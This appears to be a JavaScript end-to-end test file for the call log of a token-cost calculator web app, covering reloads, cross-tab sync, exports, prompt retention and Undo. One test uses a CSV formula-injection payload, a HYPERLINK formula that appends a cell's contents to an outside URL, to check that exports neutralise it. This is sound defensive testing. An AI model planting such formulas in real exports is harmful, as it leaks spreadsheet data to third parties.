// The log in the page: kept over a reload, live in a second tab, exported in three forms, cleared and brought back.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { openSite } from './site.mjs';

let site;
before(async () => {
  site = await openSite();
});
after(() => site?.close());

const prompt = 'Explain quantum computing in simple terms.';

async function withLog(work) {
  const visitor = await site.visitor();
  const tab = await visitor.tab();
  await tab.write(prompt);
  await tab.expectOutput(150);
  await work(tab, visitor);
  await tab.close();
  await visitor.context.close();
}

test('a logged call is there after a reload, newest first, with the exact sum', () =>
  withLog(async (tab) => {
    await tab.logCall('first');
    await tab.choose('gpt-4');
    await tab.logCall('second');
    await tab.page.reload();
    await tab.openLog();
    await tab.log.locator('tbody tr').nth(1).waitFor();
    const [newest, oldest] = await tab.rows();
    assert.match(newest, /^\d\d:\d\d:\d\d second gpt-4 8 150 \$0\.009240 exact$/);
    assert.match(oldest, /^\d\d:\d\d:\d\d first gpt-6-sol 7 150 \$0\.001514 exact$/);
    assert.match(await tab.log.locator('tfoot').innerText(), /2 calls/);
    assert.equal(await tab.log.locator('[data-sum]').innerText(), '$0.010754');
  }));

test('another tab sees a call the moment it is logged', () =>
  withLog(async (tab, visitor) => {
    const other = await visitor.tab('#/log');
    await other.log.getByText('No calls logged yet').waitFor();
    await tab.logCall('seen elsewhere');
    await other.log.locator('tbody tr', { hasText: 'seen elsewhere' }).waitFor();
    await other.log.getByRole('button', { name: 'Clear log' }).click();
    await tab.openLog();
    await tab.log.getByText('No calls logged yet').waitFor();
    await other.close();
  }));

test('each export can be read back and holds every digit', () =>
  withLog(async (tab) => {
    await tab.choose('gpt-4');
    await tab.logCall('triage, "quoted"');
    await tab.openLog();

    const json = await tab.exported('JSON');
    assert.match(json.name, /^tokenfare-log-\d{4}-\d\d-\d\d\.json$/);
    const [entry] = JSON.parse(json.text).entries;
    assert.equal(entry.operation, 'triage, "quoted"');
    assert.equal(entry.cost.total.usd, '0.00924');
    assert.deepEqual([entry.tokens.input, entry.tokens.output], [8, 150]);
    assert.equal(entry.text, undefined);

    const jsonl = await tab.exported('JSONL');
    const lines = jsonl.text
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    assert.equal(lines.at(-1).id, entry.id);

    const csv = await tab.exported('CSV');
    const [header, row] = csv.text.trim().split(/\r?\n/);
    assert.ok(header.includes('operation'));
    assert.ok(row.includes('"triage, ""quoted"""'));
    assert.ok(row.includes('0.00924'));
  }));

test('an operation that is a spreadsheet formula is exported as text', () =>
  withLog(async (tab) => {
    const formula = '=HYPERLINK("https://example.com?"&A1,"open")';
    await tab.logCall(formula);
    await tab.openLog();
    assert.ok((await tab.rows())[0].includes(formula));
    const { text } = await tab.exported('CSV');
    assert.ok(!/(^|[,\n])"?=/.test(text), text);
    assert.ok(text.includes('HYPERLINK'));
    const { text: json } = await tab.exported('JSON');
    assert.equal(JSON.parse(json).entries[0].operation, formula);
  }));

test('the prompt is kept only where that was asked for', () =>
  withLog(async (tab) => {
    await tab.logCall('without');
    await tab.fare.getByRole('checkbox', { name: 'Keep the prompt text' }).check();
    await tab.logCall('with');
    await tab.openLog();
    await tab.log.locator('tr', { hasText: 'without' }).click();
    await tab.log.locator('tf-entry-details').getByText('not kept').waitFor();
    await tab.log.locator('tr', { hasText: /\bwith\b/ }).click();
    assert.equal(await tab.log.locator('tf-entry-details pre').innerText(), prompt);
    const { text } = await tab.exported('JSONL');
    assert.equal(text.split(prompt).length, 2);
  }));

test('the details of a call show the rates that it froze and where they are from', () =>
  withLog(async (tab) => {
    await tab.choose('gpt-4');
    await tab.logCall('details');
    await tab.openLog();
    await tab.log.getByRole('button', { name: /show details/ }).press('Enter');
    const details = await tab.text(tab.log.locator('tf-entry-details'));
    assert.match(details, /Input 8 × \$30 \/ 1M \$0\.00024 Output 150 × \$60 \/ 1M \$0\.00900 Total \$0\.00924/);
    assert.match(details, /Source \S+.*read .*Verified \S+/);
    await tab.page.keyboard.press('Escape');
    await tab.log.locator('tf-entry-details').waitFor({ state: 'detached' });
    assert.match(
      await tab.page.evaluate(() => {
        let focused = document.activeElement;
        while (focused?.shadowRoot?.activeElement) focused = focused.shadowRoot.activeElement;
        return focused?.getAttribute('aria-label') ?? '';
      }),
      /show details/,
    );
  }));

test('what was cleared, deleted or logged by mistake comes back with Undo', () =>
  withLog(async (tab) => {
    for (const operation of ['one', 'two', 'three']) await tab.logCall(operation);
    await tab.openLog();
    await tab.log.locator('tbody tr').nth(2).waitFor();
    const rows = await tab.rows();

    await tab.log.getByRole('button', { name: 'Clear log' }).click();
    await tab.log.getByText('3 calls cleared.').waitFor();
    await tab.log.getByText('No calls logged yet').waitFor();
    await tab.log.getByRole('button', { name: 'Undo' }).click();
    await tab.log.locator('tbody tr').nth(2).waitFor();
    assert.deepEqual(await tab.rows(), rows);

    await tab.log.locator('tr', { hasText: 'two' }).click();
    await tab.log.getByRole('button', { name: 'Delete' }).click();
    await tab.log.getByText('1 call deleted.').waitFor();
    assert.equal((await tab.rows()).length, 2);
    await tab.log.getByRole('button', { name: 'Undo' }).click();
    await tab.log.locator('tbody tr').nth(2).waitFor();
    assert.deepEqual(await tab.rows(), rows);

    await tab.openWorkbench();
    await tab.logCall('by mistake');
    await tab.fare.getByRole('button', { name: 'Undo' }).click();
    await tab.openLog();
    await tab.log.locator('tr', { hasText: 'by mistake' }).waitFor({ state: 'detached' });
    assert.deepEqual(await tab.rows(), rows);
  }));
